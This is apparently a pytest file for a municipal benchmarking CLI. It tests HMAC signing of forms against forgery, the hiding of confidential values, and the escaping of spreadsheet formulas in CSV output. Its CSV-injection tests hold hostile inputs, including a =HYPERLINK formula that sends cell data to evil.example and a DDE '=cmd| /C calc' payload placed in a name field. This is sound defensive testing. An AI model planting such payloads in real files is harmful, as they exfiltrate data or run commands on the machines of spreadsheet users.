"""Three defects of trust (issue 14, items 6–8): forged forms, confidential values, CSV formulas.

* A monitoring form is signed with HMAC-SHA256 under a secret each database
  keeps: an edited key, a form for another municipality, year or network, and a
  form made by another database are refused; rotating the secret keeps forms
  already sent out importable unless the old secrets are retired.
* A confidential value (status ``..``) is never shown by ``check`` nor counted
  in its statistics, and ``history`` shows ``..`` unless ``--show-confidential``.
* CSV output quotes a text that a spreadsheet would run as a formula.
"""

from __future__ import annotations

import hashlib
import json
import re
from pathlib import Path

import pandas as pd
from click.testing import CliRunner
from openpyxl import load_workbook
from sqlalchemy import Engine

from benchlearn.cli import cli
from benchlearn.cli.output import render
from benchlearn.database import make_engine, upgrade
from benchlearn.definitions.store import load_definitions
from benchlearn.frames import csv_safe
from benchlearn.importing.forms import make_forms
from benchlearn.importing.signing import SECRET_BYTES, rotate_secret, signing_keys
from benchlearn.registry.municipalities import load_municipalities
from tests.conftest import WORKSPACE_DEFINITIONS, WORKSPACE_MUNICIPALITIES, write
from tests.conftest import fill_form as fill


def invoke(db_url: str, *args: str) -> tuple[int, str]:
    result = CliRunner().invoke(cli, ["--db", db_url, *args])
    return result.exit_code, result.output


def printed(db_url: str, *args: str) -> str:
    """What a command writes to standard output alone (JSON, CSV)."""
    return CliRunner().invoke(cli, ["--db", db_url, *args]).stdout


# --- 6. forms are signed with the database's secret ---------------------------------


def form_for(engine: Engine, folder: Path, municipality: str = "A1") -> Path:
    with engine.connect() as connection:
        (path,) = make_forms(connection, "T9", 2024, folder, municipalities=[municipality])
    fill(path, {"COST": 1000, "POP": 50, "SHARE": 70})
    return path


def forge(path: Path, old: str, new: str, *, sha256: bool = False) -> None:
    """Edit a form as a forger would: the hidden key, the cover, and perhaps the signature
    recomputed as the first form version did (a plain SHA-256 anyone can compute)."""
    book = load_workbook(path)
    hidden = book["_benchlearn"]
    key = str(hidden["B1"].value).replace(f'"{old}"', f'"{new}"')
    key = key.replace(f'"year":{old}', f'"year":{new}')  # the year is a number
    hidden["B1"].value = key
    if sha256:
        hidden["B2"].value = hashlib.sha256(("benchlearn-form\n" + key).encode()).hexdigest()
    cover = book.worksheets[0]
    for cell in ("B2", "B3", "B4"):
        if str(cover[cell].value) == old:
            cover[cell].value = new
    book.save(path)


def changed(path: Path) -> str:
    return (
        f"Error: {path}: the form's key was changed (signature does not match); "
        "use the original form\n"
    )


def test_each_database_keeps_a_secret_of_its_own(engine: Engine, tmp_path: Path) -> None:
    other = make_engine(f"sqlite:///{tmp_path / 'other.db'}")
    upgrade(other)

    with engine.connect() as connection:
        (mine,) = signing_keys(connection)
    with other.connect() as connection:
        (theirs,) = signing_keys(connection)
    other.dispose()

    assert len(mine.secret) == len(theirs.secret) == SECRET_BYTES
    assert mine.secret != theirs.secret
    assert mine.retired_at is None
    assert re.fullmatch(r"[0-9a-f]{16}", mine.key_id) and mine.key_id != theirs.key_id


def test_a_form_is_signed_with_an_hmac_under_the_secret(workspace: Engine, tmp_path: Path) -> None:
    path = form_for(workspace, tmp_path)
    with workspace.connect() as connection:
        (key,) = signing_keys(connection)

    hidden = load_workbook(path)["_benchlearn"]
    key_id, _, signature = str(hidden["B2"].value).partition(":")

    assert key_id == key.key_id
    assert signature == key.sign(f"benchlearn-form\n{hidden['B1'].value}\n{hidden['B3'].value}")
    assert json.loads(str(hidden["B1"].value))["version"] == 2


def test_a_signed_form_imports(workspace: Engine, db_url: str, tmp_path: Path) -> None:
    path = form_for(workspace, tmp_path)

    assert invoke(db_url, "import", str(path)) == (
        0,
        f"{path}: imported 3 rows as batch 1: 3 new, 0 changed, 0 unchanged, 0 rejected.\n",
    )


def test_a_form_forged_for_another_municipality_is_refused(
    workspace: Engine, db_url: str, tmp_path: Path
) -> None:
    path = form_for(workspace, tmp_path)
    forge(path, "A1", "B2", sha256=True)

    assert invoke(db_url, "import", str(path)) == (1, changed(path))
    assert json.loads(invoke(db_url, "batches", "--format", "json")[1]) == []


def test_a_form_forged_for_another_year_or_network_is_refused(
    workspace: Engine, db_url: str, tmp_path: Path
) -> None:
    year = form_for(workspace, tmp_path / "year")
    forge(year, "2024", "2023", sha256=True)
    network = form_for(workspace, tmp_path / "network")
    forge(network, "T9", "T8", sha256=True)
    kept = form_for(workspace, tmp_path / "kept")
    forge(kept, "A1", "B2")  # the signature left as it was

    assert invoke(db_url, "import", str(year)) == (1, changed(year))
    assert invoke(db_url, "import", str(network)) == (1, changed(network))
    assert invoke(db_url, "import", str(kept)) == (1, changed(kept))


def test_an_edited_signature_is_refused(workspace: Engine, db_url: str, tmp_path: Path) -> None:
    path = form_for(workspace, tmp_path)
    book = load_workbook(path)
    signed = str(book["_benchlearn"]["B2"].value)
    book["_benchlearn"]["B2"].value = signed[:-1] + ("0" if signed[-1] != "0" else "1")
    book.save(path)

    assert invoke(db_url, "import", str(path)) == (1, changed(path))


def test_a_form_of_the_unsigned_first_version_is_refused(
    workspace: Engine, db_url: str, tmp_path: Path
) -> None:
    path = form_for(workspace, tmp_path)
    book = load_workbook(path)
    key = str(book["_benchlearn"]["B1"].value).replace('"version":2', '"version":1')
    book["_benchlearn"]["B1"].value = key
    book["_benchlearn"]["B2"].value = hashlib.sha256(
        ("benchlearn-form\n" + key).encode()
    ).hexdigest()
    book.save(path)

    assert invoke(db_url, "import", str(path)) == (
        1,
        f"Error: {path}: the form was made by an earlier benchlearn, whose forms were not "
        "signed with the database's key; make the form again with `benchlearn forms make`\n",
    )


def test_a_form_made_by_another_database_is_refused(
    workspace: Engine, db_url: str, tmp_path: Path, workspace_files: dict[str, Path]
) -> None:
    other = make_engine(f"sqlite:///{tmp_path / 'other.db'}")
    upgrade(other)
    load_municipalities(other, workspace_files["municipalities"])
    load_definitions(other, [workspace_files["definitions"]])
    path = form_for(other, tmp_path / "theirs")
    other.dispose()

    code, output = invoke(db_url, "--lang", "lv", "import", str(path))
    english = invoke(db_url, "import", str(path))

    assert english == (
        1,
        f"Error: {path}: the form was not made by this database, or not with its secret (its "
        "signature key is unknown here); use a form made from this database with `benchlearn "
        "forms make`, where the database's secret is set (docs/accounts.md)\n",
    )
    assert (code, output) == (
        1,
        f"Kļūda: {path}: veidlapa nav sagatavota no šīs datubāzes vai ne ar tās slepeno "
        "atslēgu (tās paraksta atslēga šeit nav zināma); izmantojiet veidlapu, kas sagatavota "
        "no šīs datubāzes ar `benchlearn forms make` tur, kur ir iestatīta datubāzes slepenā "
        "atslēga (docs/accounts.md)\n",
    )


def test_forms_sent_out_still_import_after_a_rotation(
    workspace: Engine, db_url: str, tmp_path: Path
) -> None:
    sent = form_for(workspace, tmp_path / "sent")

    rotated = invoke(db_url, "forms", "rotate-key")
    after = form_for(workspace, tmp_path / "after", "B2")

    assert rotated[0] == 0
    assert re.fullmatch(
        r"New form signing key [0-9a-f]{16}: it signs every form made from now on; "
        r"forms signed with the 1 earlier key\(s\) still import\.\n",
        rotated[1],
    )
    new_id = rotated[1].split()[4].rstrip(":")
    assert str(load_workbook(after)["_benchlearn"]["B2"].value).startswith(new_id + ":")
    assert not str(load_workbook(sent)["_benchlearn"]["B2"].value).startswith(new_id + ":")
    assert invoke(db_url, "import", str(sent))[0] == 0
    assert invoke(db_url, "import", str(after))[0] == 0


def test_retiring_the_old_secrets_refuses_the_forms_they_signed(
    workspace: Engine, db_url: str, tmp_path: Path
) -> None:
    sent = form_for(workspace, tmp_path / "sent")

    rotated = invoke(db_url, "--lang", "lv", "forms", "rotate-key", "--retire-old")
    after = form_for(workspace, tmp_path / "after")

    assert rotated[0] == 0
    assert rotated[1].endswith(
        ": ar to tiks parakstītas visas turpmāk sagatavotās veidlapas; ar iepriekšējām "
        "atslēgām parakstītās veidlapas turpmāk tiks noraidītas, tāpēc sagatavojiet tās "
        "vēlreiz.\n"
    )
    assert invoke(db_url, "import", str(sent)) == (
        1,
        f"Error: {sent}: the form was signed with a key that has been retired "
        "(`benchlearn forms rotate-key --retire-old`); make the form again with "
        "`benchlearn forms make`\n",
    )
    assert invoke(db_url, "import", str(after))[0] == 0


def test_rotation_keeps_the_old_secrets_unless_retired(engine: Engine) -> None:
    first, kept = rotate_secret(engine)
    second, after_retiring = rotate_secret(engine, retire_old=True)

    with engine.connect() as connection:
        keys = signing_keys(connection)

    assert (kept, after_retiring) == (1, 0)
    assert [k.key_id for k in keys[:2]] == [second.key_id, first.key_id]
    assert [k.retired_at is None for k in keys] == [True, False, False]


# --- 7. confidential values are never shown nor counted -------------------------------

MEMBERS = "code,name\n" + "".join(f"S{i},Town {i}\n" for i in range(1, 8))


def confidential_round(engine: Engine, db_url: str, tmp_path: Path) -> None:
    """Seven towns; S1's share is low, S7's is confidential, far above everyone and
    far above its own previous year."""
    load_municipalities(engine, write(tmp_path / "m.csv", MEMBERS))
    load_definitions(engine, [write(tmp_path / "d.yaml", WORKSPACE_DEFINITIONS)])
    shares = {"S1": 10, "S2": 51, "S3": 52, "S4": 53, "S5": 54, "S6": 55}
    rows = ["municipality,indicator,year,value,status"]
    for m, share in shares.items():
        rows += [f"{m},SHARE,2023,{share},", f"{m},SHARE,2024,{share},"]
    rows += ["S7,SHARE,2023,50,", "S7,SHARE,2024,77.77,.."]
    code, output = invoke(db_url, "import", str(write(tmp_path / "v.csv", "\n".join(rows))))
    assert code == 0, output


def test_check_neither_shows_nor_counts_a_confidential_value(
    engine: Engine, db_url: str, tmp_path: Path
) -> None:
    confidential_round(engine, db_url, tmp_path)

    code, _ = invoke(db_url, "check", "--network", "T9", "--year", "2024")
    output = printed(db_url, "check", "--network", "T9", "--year", "2024", "--format", "json")
    found = [r for r in json.loads(output) if r["indicator"] == "SHARE"]

    assert code == 0
    assert "77" not in output
    # The median of the six shown values is 52.5 (with 77.77 it would be 53);
    # their MAD is 1.5, so S1's 10 is 28.3 MADs below it.
    assert found == [
        {
            "municipality": "S1",
            "indicator": "SHARE",
            "year": 2024,
            "rule": "outlier",
            "severity": "warning",
            "value": 10.0,
            "previous": None,
            "message": "10 is -28.3 MADs from the median of all municipalities (52.5)",
        }
    ]


def test_a_confidential_value_out_of_range_is_an_error_that_does_not_show_it(
    engine: Engine, db_url: str, tmp_path: Path
) -> None:
    confidential_round(engine, db_url, tmp_path)
    narrower = WORKSPACE_DEFINITIONS.replace("    max: 100\n", "    max: 60\n")
    load_definitions(engine, [write(tmp_path / "d.yaml", narrower)], replace=True)

    code, _ = invoke(db_url, "check", "--network", "T9", "--year", "2024")
    output = printed(db_url, "check", "--network", "T9", "--year", "2024", "--format", "json")
    latvian = invoke(db_url, "check", "--network", "T9", "--year", "2024", "--lang", "lv")[1]

    assert code == 1
    assert "77" not in output + latvian
    assert json.loads(output)[0] == {
        "municipality": "S7",
        "indicator": "SHARE",
        "year": 2024,
        "rule": "range",
        "severity": "error",
        "value": None,
        "previous": 50.0,
        "message": "a confidential value (..) is outside the valid range 0 to 60",
    }
    assert "SHARE (diapazons)" in latvian  # the table: one line per member, its flags
    lv_json = printed(
        db_url, "--lang", "lv", "check", "--network", "T9", "--year", "2024", "--format", "json"
    )
    assert "konfidenciāla vērtība (..) ir ārpus pieļaujamā diapazona (no 0 līdz 60)" in lv_json


def test_a_broken_rule_names_a_confidential_value_as_dots(
    engine: Engine, db_url: str, tmp_path: Path
) -> None:
    confidential_round(engine, db_url, tmp_path)
    ruled = WORKSPACE_DEFINITIONS.replace(
        "  population: POP\n", "  population: POP\n  rules:\n    - rule: SHARE <= 60\n"
    )
    load_definitions(engine, [write(tmp_path / "d.yaml", ruled)], replace=True)

    output = printed(db_url, "check", "--network", "T9", "--year", "2024", "--format", "json")

    assert "77" not in output
    assert [(r["municipality"], r["value"], r["message"]) for r in json.loads(output)][0] == (
        "S7",
        None,
        "SHARE <= 60 does not hold (SHARE = ..)",
    )


def test_history_shows_dots_for_a_confidential_value(
    engine: Engine, db_url: str, tmp_path: Path
) -> None:
    confidential_round(engine, db_url, tmp_path)

    table = invoke(db_url, "history", "S7", "SHARE", "--year", "2024")[1]
    as_json = json.loads(invoke(db_url, "history", "S7", "SHARE", "--format", "json")[1])
    as_csv = invoke(db_url, "history", "S7", "SHARE", "--year", "2024", "--format", "csv")[1]

    # The import's time and the file's path may hold "77" by chance (14:38:59.877896,
    # pytest-177): everything else is read for the secret 77.77.
    everything = table + as_csv + json.dumps(as_json)
    shown = re.sub(r'\d{4}-\d{2}-\d{2}[ T][\d:.]+|/[^,"\s]*v\.csv', "", everything)
    assert "77" not in shown
    assert table.splitlines()[2].split()[:3] == ["2024", "..", ".."]
    assert [(r["year"], r["value"], r["status"]) for r in as_json] == [
        (2023, 50.0, None),
        (2024, None, ".."),
    ]
    assert as_csv.splitlines()[1].startswith("2024,,..,1,")


def test_history_shows_a_confidential_value_only_when_asked_and_says_so(
    engine: Engine, db_url: str, tmp_path: Path
) -> None:
    confidential_round(engine, db_url, tmp_path)

    code, output = invoke(db_url, "history", "S7", "SHARE", "--year", "2024", "--show-confidential")
    latvian = invoke(
        db_url, "--lang", "lv", "history", "S7", "SHARE", "--year", "2024", "--show-confidential"
    )[1]

    assert code == 0
    assert output.splitlines()[2].split()[:3] == ["2024", "77.77", ".."]
    assert output.splitlines()[-1] == (
        "Confidential values (status ..) are shown (--show-confidential): do not pass them on."
    )
    assert latvian.splitlines()[-1] == (
        "Parādītas arī konfidenciālās vērtības (statuss ..; --show-confidential): "
        "nenododiet tās tālāk."
    )


# --- 8. CSV output is not a formula ---------------------------------------------------

HOSTILE = """code,name,kind,region
A1,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",city,North
B2,"+SUM(1,2)",novads,-3.5
C3,@SUM(1),novads,South
D4,-2+3,novads,-
"""


def test_csv_quotes_what_a_spreadsheet_would_run(
    engine: Engine, db_url: str, tmp_path: Path
) -> None:
    load_municipalities(engine, write(tmp_path / "m.csv", HOSTILE))

    code, output = invoke(db_url, "municipalities", "list", "--format", "csv")
    as_json = json.loads(invoke(db_url, "municipalities", "list", "--format", "json")[1])

    assert code == 0
    assert output == (
        "code,name,kind,valid_from,valid_to,region\n"
        'A1,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",city,,,North\n'
        'B2,"\'+SUM(1,2)",novads,,,-3.5\n'
        "C3,'@SUM(1),novads,,,South\n"
        "D4,'-2+3,novads,,,-\n"
    )
    assert [r["name"] for r in as_json] == [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+SUM(1,2)",
        "@SUM(1)",
        "-2+3",
    ]


def test_practice_list_csv_quotes_a_formula_title(workspace: Engine, db_url: str) -> None:
    invoke(db_url, "practice", "add", "--municipality", "A1", "--network", "T9",
           "--title", "=1+1", "--text", "\tcmd")  # fmt: skip

    output = invoke(db_url, "practice", "list", "--format", "csv")[1]

    row = output.splitlines()[1]
    assert ",'=1+1," in row and ",'\tcmd" in row


def test_csv_safe_leaves_numbers_and_quotes_only_text() -> None:
    frame = pd.DataFrame(
        {
            "name": ["=A1", "+1", "-3.5", "@x", "\tx", "\rx", "plain", "-", None],
            "value": [-3.5, 1.0, -2.0, 0.0, 1e-3, -1.0, 2.0, 3.0, 4.0],
        }
    )

    safe = csv_safe(frame)

    assert safe["name"].tolist()[:8] == ["'=A1", "+1", "-3.5", "'@x", "'\tx", "'\rx", "plain", "-"]
    assert safe["name"].isna().tolist()[8]
    assert safe["value"].tolist() == frame["value"].tolist()
    assert render(frame, "json") == render(frame.copy(), "json")
    assert json.loads(render(frame, "json"))[0]["name"] == "=A1"
    assert render(frame, "csv").splitlines()[2] == "+1,1.0"
    assert render(frame, "csv").splitlines()[3] == "-3.5,-2.0"


def test_forms_status_reminders_quote_a_formula_name(
    engine: Engine, db_url: str, tmp_path: Path
) -> None:
    load_municipalities(
        engine,
        write(
            tmp_path / "m.csv",
            WORKSPACE_MUNICIPALITIES + "D4,\"=cmd|' /C calc'!A0\",novads,North\n",
        ),
    )
    load_definitions(engine, [write(tmp_path / "d.yaml", WORKSPACE_DEFINITIONS)])

    output = invoke(
        db_url, "forms", "status", "--network", "T9", "--year", "2024", "--format", "csv"
    )[1]

    assert output.splitlines()[0] == "municipality,name,contact,missing"
    assert "D4,'=cmd|' /C calc'!A0,," in output


def test_an_import_never_echoes_a_confidential_value_back(
    workspace: Engine, tmp_path: Path
) -> None:
    from benchlearn.errors import BenchlearnError
    from benchlearn.importing import import_file

    path = write(
        tmp_path / "v.csv", "municipality,indicator,year,value,status\nA1,SHARE,2022,177.7,..\n"
    )

    try:
        import_file(workspace, path)
    except BenchlearnError as error:
        said = error.text("en")
    else:  # pragma: no cover - the file must be refused
        raise AssertionError("an out-of-range value was imported")

    assert said.endswith(f"{path}, row 2, column value: .. is outside SHARE's valid range 0 to 100")
    assert "177" not in said
